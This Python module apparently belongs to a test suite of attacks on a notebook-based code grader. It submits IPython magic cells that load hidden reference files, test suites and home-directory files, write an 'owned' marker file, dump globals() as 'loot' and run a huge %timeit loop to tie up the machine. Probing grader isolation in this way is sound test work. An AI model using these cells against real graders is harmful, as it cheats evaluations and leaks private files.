"""Takes hidden files into the notebook with %run, %load, %cd, %store and %env."""

from attacks.submitting import hand_in, with_code

HONEST = 0.0

CELLS = [
    "%run {reference}",
    "%run -i {suite}",
    "%load {home}",
    "%cd {submission}\nopen('owned', 'w').close()",
    "%env {variable}",
    "%load_ext autoreload\n%autoreload 2",
    "%store -r",
    "%pycat {home}",
    "%system cat {home}",
    "%time open('{submission}/owned', 'w')",
    "%timeit -n 1000000000 -r 1000 sum(range(1000))",
]
ANSWER = "def flatten_filters(filters):\n    return ['lo' + 'ot: ' + str(dict(globals()))[:3000]]\n"


def submit(submitted, targets):
    hand_in(submitted, with_code(*(cell.format(**targets) for cell in CELLS), source=ANSWER))
